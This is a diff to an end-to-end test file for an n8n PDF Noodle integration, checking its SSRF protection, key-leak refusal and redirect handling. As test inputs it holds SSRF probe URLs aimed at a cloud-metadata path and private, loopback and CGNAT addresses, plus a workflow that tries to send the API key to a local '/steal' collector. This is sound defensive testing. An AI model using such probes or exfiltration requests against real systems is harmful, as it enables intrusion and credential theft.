@@ -19,7 +19,7 @@ import axios from 'axios';
 import { answerCounts, BURST_LOOKUPS_PER_SECOND, BURST_SIZE, BURST_TEST_TIMEOUT_MS, burstDeliveries, executionKey, postBurst, sentAgainCount, tally, unansweredCount, unexpectedAnswerSamples } from '../support/burst';
 import { pdfText } from '../support/pdf';
 import { waitFor } from '../support/processes';
-import { startReceiver } from '../support/receiver';
+import { type Receiver, startReceiver } from '../support/receiver';
 import { type Sandbox, startTestSandbox } from '../support/sandbox';
 import { EXAMPLE_TRIGGER_TOKEN, example, sandboxCredential, secretTokenTrigger, triggerSecretCredential } from './examples';
 import { N8N_MAJOR, N8nWithTestResolver } from './n8n';
@@ -47,9 +47,52 @@ const UNCONFIRMED_PATH = '/webhook/pdf-noodle-hardened-unconfirmed/pdf-noodle';
 let sandbox: Sandbox;
 let n8n: HardenedN8n;
 let baseUrl: string;
+/** What a download refused by n8n's SSRF protection tells a person to do: allow a name... */
+const ALLOW_ADVICE =
+	'If the address is meant to be reached, an n8n admin allows it with N8N_SSRF_ALLOWED_HOSTNAMES (its host name) or N8N_SSRF_ALLOWED_IP_RANGES (its address range); see "For n8n admins" in docs/reliability.md.';
+/** ...and for an address of n8n's own network, which the package refuses too, that no allow list helps. */
+const OWN_NETWORK_ADVICE =
+	"Only the credential's Base URL may be an address of n8n's own network (loopback, link-local, private or reserved): no n8n setting lets the package reach another.";
+
 /** A service inside n8n's network, on every interface as services bound to 0.0.0.0 are. */
 let internal: Server;
 const internalReceived: string[] = [];
+
+/** A host that is not pdf noodle's, collecting what is sent to it (the key must not be). */
+let collector: Receiver;
+/** A Base URL that answers every request with a redirect to http://api.pdfnoodle.com:<port>. */
+let redirector: Server;
+const REDIRECTING_CREDENTIAL = { id: 'pdfNoodleRedirect', name: 'Redirecting account' };
+
+/** n8n's HTTP Request node with the PDF Noodle API credential, asking the collector. */
+function httpRequestWithTheKey(collectorUrl: string) {
+	return {
+		id: 'pdfNoodleHardHttp',
+		name: 'HTTP Request with the PDF Noodle API credential',
+		nodes: [
+			{ id: 'start', name: 'Start', type: 'n8n-nodes-base.manualTrigger', typeVersion: 1, position: [0, 0], parameters: {} },
+			{
+				id: 'http',
+				name: 'HTTP Request',
+				type: 'n8n-nodes-base.httpRequest',
+				typeVersion: 4.2,
+				position: [220, 0],
+				parameters: { method: 'GET', url: `${collectorUrl}/steal`, authentication: 'predefinedCredentialType', nodeCredentialType: 'pdfNoodleApi', options: {} },
+				credentials: { pdfNoodleApi: { id: 'pdfNoodleSandbox', name: 'PDF Noodle account' } },
+			},
+		],
+		connections: { Start: { main: [[{ node: 'HTTP Request', type: 'main', index: 0 }]] } },
+		settings: {},
+	};
+}
+
+/** The invoice example rendering through the redirecting Base URL. */
+function renderThroughRedirect() {
+	const workflow = example('render-invoice');
+	const renderNode = workflow.nodes.find((node: { name: string }) => node.name === 'Render invoice');
+	renderNode.credentials = { pdfNoodleApi: REDIRECTING_CREDENTIAL };
+	return { ...workflow, id: 'pdfNoodleHardRedirect' };
+}
 
 /** The example trigger with the secret token instead of the confirmation, downloading what a call names. */
 function unconfirmedDownloadingTrigger() {
@@ -63,13 +106,28 @@ beforeAll(async () => {
 		response.end('%PDF-1.4 internal secret');
 	});
 	await new Promise<void>((resolve) => internal.listen(0, '0.0.0.0', resolve));
+	collector = await startReceiver();
+	redirector = createServer((request, response) => {
+		request.resume();
+		response.writeHead(308, { Location: `http://api.pdfnoodle.com:8080${request.url ?? '/'}` }).end();
+	});
+	await new Promise<void>((resolve) => redirector.listen(0, '127.0.0.1', resolve));
+	const redirectingBaseUrl = `http://127.0.0.1:${(redirector.address() as AddressInfo).port}`;
+
 	n8n = new HardenedN8n();
 	await n8n.installThisPackage();
-	await n8n.importCredentials([sandboxCredential(sandbox.apiKey, sandbox.baseUrl), triggerSecretCredential()]);
+	// Every credential and workflow of the file in one import each (one n8n CLI start each).
+	await n8n.importCredentials([
+		sandboxCredential(sandbox.apiKey, sandbox.baseUrl),
+		triggerSecretCredential(),
+		{ ...sandboxCredential(sandbox.apiKey, redirectingBaseUrl), ...REDIRECTING_CREDENTIAL },
+	]);
 	await n8n.importWorkflows([
 		...['render-invoice', 'batch-merge', 'markdown-merge-compress-metadata'].map((name) => example(name)),
 		{ ...example('trigger-receive-renders'), id: CONFIRMED_TRIGGER_ID },
 		unconfirmedDownloadingTrigger(),
+		httpRequestWithTheKey(collector.url),
+		renderThroughRedirect(),
 	]);
 	await n8n.activateWorkflow(CONFIRMED_TRIGGER_ID);
 	await n8n.activateWorkflow(UNCONFIRMED_TRIGGER_ID);
@@ -80,8 +138,11 @@ beforeAll(async () => {
 afterAll(async () => {
 	await n8n?.dispose();
 	await sandbox?.close();
-	internal?.closeAllConnections();
-	await new Promise<void>((resolve) => (internal ? internal.close(() => resolve()) : resolve()));
+	await collector?.close();
+	for (const server of [internal, redirector]) {
+		server?.closeAllConnections();
+		await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
+	}
 });
 
 const executionsOf = (workflowId: string) => n8n.executions().filter((execution) => execution.workflowId === workflowId);
@@ -165,13 +226,14 @@ describe('the trigger under pressure from outside', () => {
 		const { port } = internal.address() as AddressInfo;
 		const interfaceAddress = Object.values(networkInterfaces()).flat().find((entry) => entry && entry.family === 'IPv4' && !entry.internal)?.address;
 		assert.ok(interfaceAddress, 'the machine has an interface address');
+		// An admin may allow a name (n8n's advice); an address of n8n's own network the package refuses anyway.
 		const probes = [
-			{ url: `http://${interfaceAddress}:${port}/latest/meta-data/`, what: 'the machine\'s own interface address' },
-			{ url: `http://198.51.100.7:${port}/x.pdf`, what: 'a documentation range' },
+			{ url: `http://${interfaceAddress}:${port}/latest/meta-data/`, what: 'the machine\'s own interface address', advice: OWN_NETWORK_ADVICE },
+			{ url: `http://198.51.100.7:${port}/x.pdf`, what: 'a documentation range', advice: OWN_NETWORK_ADVICE },
 			// Only n8n 2.x resolves a name before judging it; 1.x judges the text (documented).
-			...(N8N_MAJOR >= 2 ? [{ url: `http://loopback.pdf-noodle.test:${port}/admin`, what: 'a name resolving to 127.0.0.2' }] : []),
+			...(N8N_MAJOR >= 2 ? [{ url: `http://loopback.pdf-noodle.test:${port}/admin`, what: 'a name resolving to 127.0.0.2', advice: ALLOW_ADVICE }] : []),
 			// n8n 3.x's larger list (test/e2e/n8n3Profile.ts); not in 2.x's.
-			...(N8N_3X_PROFILE ? [{ url: `http://100.64.0.7:${port}/x.pdf`, what: 'the shared address space (CGNAT)' }] : []),
+			...(N8N_3X_PROFILE ? [{ url: `http://100.64.0.7:${port}/x.pdf`, what: 'the shared address space (CGNAT)', advice: OWN_NETWORK_ADVICE }] : []),
 		];
 		for (const [index, probe] of probes.entries()) {
 			const answer = await post(UNCONFIRMED_PATH, { requestId: `probe-${index}`, renderStatus: 'SUCCESS', signedUrl: probe.url, metadata: {} });
@@ -183,10 +245,10 @@ describe('the trigger under pressure from outside', () => {
 		});
 		// Spread into this test's own array: the executions come from another realm (node:sqlite, flatted).
 		const errors = [...executions.map((execution) => String(execution.data.resultData.runData['PDF Noodle Trigger'][0].data.main[0][0].json.downloadError))].sort();
-		const expected = probes.map(({ url }) => {
+		const expected = probes.map(({ url, advice }) => {
 			const origin = new URL(url).origin;
 			return N8N_MAJOR >= 2
-				? `data: Not downloaded: n8n's SSRF protection blocked ${origin} (The request was blocked because it resolves to a restricted IP address) (If the address is meant to be reached, an n8n admin allows it with N8N_SSRF_ALLOWED_HOSTNAMES (its host name) or N8N_SSRF_ALLOWED_IP_RANGES (its address range); see "For n8n admins" in docs/reliability.md.)`
+				? `data: Not downloaded: n8n's SSRF protection blocked ${origin} (The request was blocked because it resolves to a restricted IP address) (${advice})`
 				: `data: Not downloaded: ${origin} is an address of n8n's own network (loopback, link-local, private or reserved), and only the credential's Base URL may be one`;
 		});
 		assert.deepEqual(errors, expected.sort());
@@ -231,58 +293,18 @@ describe('the trigger under pressure from outside', () => {
 
 describe('the API key stays with pdf noodle', () => {
 	test('n8n\'s HTTP Request node with the PDF Noodle API credential cannot send the key to another host', async () => {
-		const collector = await startReceiver();
-		try {
-			await n8n.importWorkflow({
-				id: 'pdfNoodleHardHttp',
-				name: 'HTTP Request with the PDF Noodle API credential',
-				nodes: [
-					{ id: 'start', name: 'Start', type: 'n8n-nodes-base.manualTrigger', typeVersion: 1, position: [0, 0], parameters: {} },
-					{
-						id: 'http',
-						name: 'HTTP Request',
-						type: 'n8n-nodes-base.httpRequest',
-						typeVersion: 4.2,
-						position: [220, 0],
-						parameters: { method: 'GET', url: `${collector.url}/steal`, authentication: 'predefinedCredentialType', nodeCredentialType: 'pdfNoodleApi', options: {} },
-						credentials: { pdfNoodleApi: { id: 'pdfNoodleSandbox', name: 'PDF Noodle account' } },
-					},
-				],
-				connections: { Start: { main: [[{ node: 'HTTP Request', type: 'main', index: 0 }]] } },
-				settings: {},
-			});
-			const run = await n8n.execute('pdfNoodleHardHttp');
-			const error = run.data.resultData.runData['HTTP Request'][0].error;
-			assert.match(`${error?.message} ${error?.description}`, new RegExp(`Refusing to send the pdf noodle API key to ${new URL(collector.url).origin.replace(/\./g, '\\.')}`));
-			assert.deepEqual(collector.received, [], 'the other host got nothing, so not the key');
-		} finally {
-			await collector.close();
-		}
+		const run = await n8n.execute('pdfNoodleHardHttp');
+		const error = run.data.resultData.runData['HTTP Request'][0].error;
+		assert.match(`${error?.message} ${error?.description}`, new RegExp(`Refusing to send the pdf noodle API key to ${new URL(collector.url).origin.replace(/\./g, '\\.')}`));
+		assert.deepEqual(collector.received, [], 'the other host got nothing, so not the key');
 	});
 
 	test('a redirect of the API to the service over plain http is not followed, and the render says why', async () => {
-		// A Base URL that answers every request with a redirect to http://api.pdfnoodle.com:<port>.
-		const redirector = createServer((request, response) => {
-			request.resume();
-			response.writeHead(308, { Location: `http://api.pdfnoodle.com:8080${request.url ?? '/'}` }).end();
-		});
-		await new Promise<void>((resolve) => redirector.listen(0, '127.0.0.1', resolve));
-		try {
-			const redirectingBaseUrl = `http://127.0.0.1:${(redirector.address() as AddressInfo).port}`;
-			await n8n.importCredentials([{ ...sandboxCredential(sandbox.apiKey, redirectingBaseUrl), id: 'pdfNoodleRedirect', name: 'Redirecting account' }]);
-			const workflow = example('render-invoice');
-			const renderNode = workflow.nodes.find((node: { name: string }) => node.name === 'Render invoice');
-			renderNode.credentials = { pdfNoodleApi: { id: 'pdfNoodleRedirect', name: 'Redirecting account' } };
-			await n8n.importWorkflow({ ...workflow, id: 'pdfNoodleHardRedirect' });
-			const run = await n8n.execute('pdfNoodleHardRedirect');
-			assert.equal(
-				run.data.resultData.runData['Render invoice'][0].error?.message,
-				'The pdf noodle API answered with a redirect to http://api.pdfnoodle.com:8080, which is not the pdf noodle service: it was not followed, so your API key stays with the service',
-			);
-		} finally {
-			redirector.closeAllConnections();
-			await new Promise<void>((resolve) => redirector.close(() => resolve()));
-		}
+		const run = await n8n.execute('pdfNoodleHardRedirect');
+		assert.equal(
+			run.data.resultData.runData['Render invoice'][0].error?.message,
+			'The pdf noodle API answered with a redirect to http://api.pdfnoodle.com:8080, which is not the pdf noodle service: it was not followed, so your API key stays with the service',
+		);
 	});
 });
 
